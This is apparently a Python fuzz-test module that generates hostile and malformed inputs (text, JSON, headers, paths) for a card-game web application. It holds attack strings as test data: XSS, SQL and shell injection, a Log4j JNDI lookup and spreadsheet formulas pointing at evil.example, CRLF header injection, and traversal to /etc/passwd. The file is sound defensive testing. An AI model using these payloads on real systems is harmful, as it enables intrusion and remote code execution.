"""What somebody might type, ask or send who wishes us ill: names in every script, code, numbers, addresses, JSON."""

from __future__ import annotations

import json
from collections.abc import Callable
from random import Random
from typing import Any

from hypothesis import strategies as st

from tests.hostile.marked import ATTACKS, ATTRIBUTE, TAG

SCRIPTS = (
    *"李小龍 Дмитрий Ελένη שרה محمد พรทิพย์ हरि தமிழ் 한가람 ゆき ლამარა ⵣⵉⵔⵉ 𐤀𐤁 𝔐𝔞𝔢𝔳𝔢 🇮🇪 ﷺ ß ǅ ŉ ı K".split(),
    "Ó Súilleabháin",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "e\u0301" * 9,
    "Z" + "\u0335\u0321\u0489" * 20,
)
UNSEEN = tuple(
    "\0\t\n\r\x0b\x1b\x7f\x85\xa0\u00ad\u180e\u200b\u200e\u200f\u2028\u2029\u202e\u2066\ufeff\ufff9\U000e0041"
)
CODE = (
    TAG, ATTRIBUTE, *ATTACKS, "</script><script>alert(1)</script>", "<svg/onload=alert(1)>", "<!--", "]]>",
    "' OR 1=1 --", "\"; DROP TABLE matches; --", "{{config}}", "{% raw %}", "%(name)s", "%s%n", "$(id)", "`id`",
    "${jndi:ldap://evil.example}", "=HYPERLINK(\"//evil.example\")", "=cmd|' /C calc'!A0", "+1", "-1+1", "@SUM(1)",
    "\t=1", "\r\nSet-Cookie: a=b", "%0d%0aLocation:%20//evil.example", "&#60;", "&lt;", "\\u003cscript", "\\", "\\\"",
    "\N{FULLWIDTH LESS-THAN SIGN}",
)  # fmt: skip
LEADS = (
    "//evil.example", "https://evil.example/", "/\\evil.example", "\\\\evil.example", "javascript:alert(1)",
    "/%2f/evil.example", "data:text/html,<b>", "/..//evil.example", "https:evil.example", "\thttps://evil.example",
    "http://cards.example@evil.example", "?", "#", "/", ".", "..", "../..", "/static/../app.py", "..%2f..%2fapp.py",
    "....//", "%2e%2e/", "CON", "a" * 300, "/etc/passwd",
)  # fmt: skip
NUMBERS = (
    *"0 -1 1 2 3 7 00 +1 1e9 1.5 ٣ ２ ² ½ 1_000 0x10 NaN inf -0 true null [] {}".split(),
    *(" 1", str(2**31), str(2**63 - 1), str(2**63), str(-(2**63) - 1), "9" * 30, "9" * 4400, "9" * 20000),
)
LONG = (
    *("a" * 61, "Z" * 1000, "é" * 5000, "<" * 3000, "( " * 2000, "[" * 10000, '{"a":' * 5000, "\u0301" * 2000),
    "9 " * 3000,
)
KINDS = "trick play call auction hand finish discard name_trump rob review match player".split()
WORDS = (
    *KINDS,
    *"""
    none nobody 1 0 S h D C 5S 10D AH AS,5S pass hold 15 20 25 30 60 barker kitty-four forty-five own big watcher pen
    view save wrong new gone kept passed tally 2026 2026-11-30 2026-02-30 0000-00-00 all pairs players over open yes no
    on off merge drop take Europe/Dublin ../../x 00:00 true must_play_trump
    """.split(),
)

ODD: st.SearchStrategy[str] = st.one_of(
    st.sampled_from(WORDS),
    st.sampled_from(NUMBERS),
    st.sampled_from(CODE),
    st.sampled_from(SCRIPTS),
    st.sampled_from(LEADS),
    st.sampled_from(LONG),
    st.builds("".join, st.lists(st.sampled_from(UNSEEN + WORDS[:9]), min_size=1, max_size=4)),
    st.text(max_size=20),
    st.text(st.characters(categories=("Cs", "Co", "Cn", "Cf", "Mn", "Zs")), max_size=6),
)
"""Any text."""

VERBS = """
    tally pass_in call contract name_trump turn_up robbed trick play leader top rest save undo redo correct insert
    delete move swap_sides adjust cancel_adjust opening dealer rename substitute swap_seats abandon resume
""".split()
FIELDS = """
    hand before side points seat name note bidder bid held trump tricks top_trump seats card cards base target
""".split()
SMALL = st.one_of(st.none(), st.booleans(), st.integers(-2, 9), st.integers(), st.floats(), ODD)
JSON = st.recursive(
    SMALL,
    lambda inner: st.one_of(
        st.lists(inner, max_size=5), st.dictionaries(st.one_of(st.sampled_from(FIELDS), ODD), inner, max_size=4)
    ),
    max_leaves=8,
)
DO = st.builds(
    lambda verb, value, more: {verb: value, **more},
    st.sampled_from(VERBS),
    JSON,
    st.dictionaries(st.sampled_from(FIELDS), JSON, max_size=1),
)
RULES = st.one_of(
    st.sampled_from(["barker", "kitty-four", "forty-five", "own"]),
    st.fixed_dictionaries(
        {"base": st.sampled_from(["barker", "merrimack", "x"])},
        optional={"target": SMALL, "players": JSON, "bids": JSON},
    ),
    JSON,
)
QUESTIONS = st.fixed_dictionaries(
    {"ask": st.sampled_from(KINDS) | SMALL},
    optional={
        "rules": RULES,
        **dict.fromkeys("trump card leader dealer bid bidder".split(), SMALL),
        **dict.fromkeys("trick hand cards scores calls tricks hands".split(), JSON),
    },
)

HEADER_NAMES = """
    Accept Accept-Encoding Accept-Language Authorization Cookie If-Match If-Modified-Since If-None-Match If-Range Range
    HX-Request HX-Target HX-Boosted HX-Current-URL HX-History-Restore-Request HX-Trigger HX-Prompt Origin Referer Host
    Sec-Fetch-Site X-Forwarded-For X-Forwarded-Host X-Forwarded-Prefix X-Forwarded-Port X-HTTP-Method-Override Upgrade
    X-Original-URL User-Agent Transfer-Encoding Expect Waited Content-Encoding Forwarded
""".split()
HEADER_VALUES = (
    *"true table same-origin cross-site evil.example cards.example https null * bytes=0-0 bytes=9999999999-".split(),
    *'bytes=-1,0-,5-2 W/"x" en;q=x,fr;q=9,* gzip;q=0 Bearer device= session=eyJ4IjoxfQ.x.y 100-continue'.split(),
    *("Bearer \xff", "Basic eA==", "device=\xff; session=.eJx", "Thu, 99 Foo 0000 99:99:99 GMT", "chunked", "[::1"),
    *("a:b:c", "x" * 70000),
)
CONTENT_TYPES = (
    *("multipart/form-data", "multipart/form-data; boundary=", "text/plain", "application/json", "x"),
    *("multipart/form-data; boundary=" + "x" * 300, "multipart/mixed; boundary=a"),
    "application/x-www-form-urlencoded; charset=x",
)
METHODS = ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "x", "GE T")
PATHS = (
    *(b"", b"*", b"//", b"/" * 3000, b"/m/" + b"x" * 70000, b"/static/%2e%2e/app.py", b"http://evil.example/"),
    *(b"/static/../../etc/passwd", b"/static//etc/passwd", b"/static/\0", b"/\xff\xfe", b"/m/\xc0\xaf", b"/%00"),
)


class Chance:
    """What is left to chance: texts and values are drawn from Hypothesis; the shape of a request from one draw of it,
    as each draw takes its time.
    """

    def __init__(self, draw: Callable[[st.SearchStrategy[Any]], Any]) -> None:
        self.draw = draw
        self._random = Random(draw(st.integers(0, 2**64 - 1)))
        self.choice = self._random.choice
        self.between = self._random.randint

    def once_in(self, times: int) -> bool:
        """True once in so many times."""
        return self._random.randrange(times) == 0

    def odd(self) -> str:
        """Any text."""
        return str(self.draw(ODD))

    def some(self, things: list[Any], most: int) -> list[Any]:
        """Some of these, at most so many."""
        return self._random.sample(things, min(len(things), self.between(0, most)))


def as_text(value: Any) -> str:
    """A value as JSON, with whatever Python lets JSON hold."""
    return json.dumps(value)


def written(text: str) -> bytes:
    """Text as bytes, half signs too."""
    return text.encode("utf-8", "surrogatepass")


def on_one_line(text: str) -> str:
    """What can come as the value of a header: one line, each byte a sign."""
    return written(text).decode("latin-1").replace("\r", "").replace("\n", "").replace("\0", "")
